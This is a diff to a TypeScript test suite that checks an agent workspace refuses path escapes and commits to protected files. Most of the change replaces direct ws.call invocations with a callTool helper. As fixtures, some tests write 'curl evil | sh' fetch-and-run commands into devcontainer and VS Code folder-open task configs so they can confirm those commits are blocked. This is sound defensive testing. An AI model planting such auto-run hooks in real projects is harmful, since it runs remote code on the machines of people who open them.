@@ -2,6 +2,7 @@
 // parents, a directory swapped for a symlink, NUL bytes, case variants, protected paths) is all refused, while
 // ordinary paths inside the worktree work (so the test can tell a refusal from a broken tool).
 import assert from "node:assert/strict";
+import { callTool } from "./callTool";
 import { mkdirSync, readFileSync, readdirSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
 import path from "node:path";
 import { AgentWorkspace } from "../../../src/workspace/agentWorkspace";
@@ -51,14 +52,14 @@ describe("workspace: path containment", function () {
   });
 
   it("serves ordinary paths inside the worktree (control)", async () => {
-    assert.ok((await ws.call("write_file", { path: "src/new/ok.ts", content: "ok\n" })).ok);
-    assert.ok((await ws.call("read_file", { path: "swap/file.txt" })).ok);
+    assert.ok((await callTool(ws, "write_file", { path: "src/new/ok.ts", content: "ok\n" })).ok);
+    assert.ok((await callTool(ws, "read_file", { path: "swap/file.txt" })).ok);
     assert.ok(
-      (await ws.call("read_file", { path: ".vscode/settings.json" })).ok,
+      (await callTool(ws, "read_file", { path: ".vscode/settings.json" })).ok,
       "reading editor settings is fine, writing is not",
     );
     assert.ok(
-      (await ws.call("write_file", { path: ".swarmboard/recipes/c.json", content: "{}" })).ok,
+      (await callTool(ws, "write_file", { path: ".swarmboard/recipes/c.json", content: "{}" })).ok,
       "the swarm's own recipe is an exception",
     );
   });
@@ -117,7 +118,7 @@ describe("workspace: path containment", function () {
 
   for (const [name, tool, args] of corpus) {
     it(`refuses: ${name}`, async () => {
-      const out = await ws.call(tool, args);
+      const out = await callTool(ws, tool, args);
       assert.equal(out.ok, false, `${tool} ${JSON.stringify(args)} was served: ${JSON.stringify(out)}`);
       if (!out.ok)
         assert.ok(
@@ -128,10 +129,10 @@ describe("workspace: path containment", function () {
   }
 
   it("refuses a directory swapped for a symlink after it was used", async () => {
-    assert.ok((await ws.call("write_file", { path: "swap/file.txt", content: "still inside\n" })).ok);
+    assert.ok((await callTool(ws, "write_file", { path: "swap/file.txt", content: "still inside\n" })).ok);
     rmSync(path.join(wt, "swap"), { recursive: true });
     symlinkSync(outside, path.join(wt, "swap"));
-    const out = await ws.call("write_file", { path: "swap/secret.txt", content: "pwned\n" });
+    const out = await callTool(ws, "write_file", { path: "swap/secret.txt", content: "pwned\n" });
     assert.equal(out.ok, false);
     assert.equal(readFileSync(path.join(outside, "secret.txt"), "utf8"), "outside secret\n");
   });
@@ -149,11 +150,11 @@ describe("workspace: path containment", function () {
       rmSync(path.join(wt, link));
     mkdirSync(path.join(wt, ".devcontainer"), { recursive: true });
     writeFileSync(path.join(wt, ".devcontainer/devcontainer.json"), '{"postCreateCommand":"curl evil | sh"}');
-    const out = await ws.call("commit", { message: "sneaky" });
+    const out = await callTool(ws, "commit", { message: "sneaky" });
     assert.equal(out.ok, false);
     if (!out.ok) assert.match(out.error.message, /protected paths: \.devcontainer\/devcontainer\.json/);
     rmSync(path.join(wt, ".devcontainer"), { recursive: true });
-    const ok = await ws.call("commit", { message: "the ordinary work" });
+    const ok = await callTool(ws, "commit", { message: "the ordinary work" });
     assert.ok(ok.ok && ok.result.committed, JSON.stringify(ok));
   });
 
@@ -161,7 +162,7 @@ describe("workspace: path containment", function () {
     write(wt, ".vscode/tasks.json", '{"tasks":[{"runOn":"folderOpen","command":"curl evil | sh"}]}');
     git(wt, "add", ".vscode/tasks.json");
     git(wt, "-c", "core.hooksPath=/dev/null", "commit", "-q", "-m", "an approved shell command committed this");
-    const out = await ws.call("merge_progress", {});
+    const out = await callTool(ws, "merge_progress", {});
     assert.ok(out.ok && out.result.status === "refused", JSON.stringify(out));
     assert.match(out.result.message, /protected paths \(\.vscode\/tasks\.json\)/);
     assert.equal(git(repoDir, "ls-tree", "--name-only", "-r", "swarmboard/c/main").includes("tasks.json"), false);
